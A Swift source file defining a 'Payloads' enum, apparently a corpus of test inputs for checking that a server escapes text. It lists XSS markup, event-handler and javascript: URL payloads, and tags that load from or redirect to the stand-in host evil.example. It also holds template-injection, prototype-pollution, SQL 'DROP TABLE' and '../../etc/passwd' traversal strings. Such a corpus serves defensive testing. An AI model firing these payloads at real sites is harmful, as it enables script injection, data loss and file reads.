/// Texts that become markup, script, style or an address wherever a server forgets to escape them.
enum Payloads {
  /// Markup, alone and after each of the ways out of where a text may stand.
  static let markup: [String] = ways.flatMap { way in bodies.map { way + $0 } } + others

  /// Addresses that run script, or that browsers read in a different way than servers.
  static let addresses = schemes.flatMap { scheme in
    [
      "\(scheme)alert(1)", "\(scheme)//a/%0aalert(1)",
      "\(scheme)text/html,<script>alert(1)</script>",
    ]
  }

  private static let ways = [
    "", "\">", "'>", "</span>", "</title>", "</textarea>", "</script>", "-->", "]]>", "\\\"]]",
  ]

  private static let bodies = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<b onclick=alert(1)>x",
    "<style>*{display:none}</style>", "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<math><mtext></form><mglyph>",
    "<template><img src=x onerror=alert(1)></template>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<object data=javascript:alert(1)>",
  ]

  private static let others = [
    "\" onfocus=alert(1) autofocus x=\"", "' onmouseover='alert(1)", "` onload=`alert(1)",
    "\" style=\"position:fixed;inset:0", "\" data-on=\"tap\" x=\"", "\" popover=\"auto",
    "<!--", "<!-- --!>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE html>", "<plaintext>", "<xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)", "\u{FF1C}script\u{FF1E}", "<\u{0}script>alert(1)</script>",
    "a\u{0}b", "\u{2028}alert(1)\u{2029}", "\u{202E}tpircs", "x\u{FEFF}<script>", "\u{7F}<b>",
    "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "<%= alert(1) %>", "#{7*7}",
    "\"]],[\"o\",\"javascript:alert(1)\"],[\"", "\\\"]],[[\"c\",[\"*{}\"]]]", "{\"__proto__\":{}}",
    "__proto__", "constructor", "toString", "'; DROP TABLE users; --", "../../etc/passwd",
    "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", "e\u{301}\u{301}\u{301}\u{301}", "\u{10FFFF}",
    " ", "\t",
    String(repeating: "<", count: 500), String(repeating: "\"", count: 500),
    String(repeating: "&", count: 500), String(repeating: "W", count: 5000),
  ]

  private static let schemes = [
    "javascript:", "JavaScript:", "JAVASCRIPT:", "java%73cript:", "data:", "Data:", "vbscript:",
    "blob:", "file:", "filesystem:", "view-source:", "about:", "intent:", "ws:", "chrome:", "jar:",
    "livescript:", "mocha:", "feed:javascript:", "x-javascript:",
  ]
}
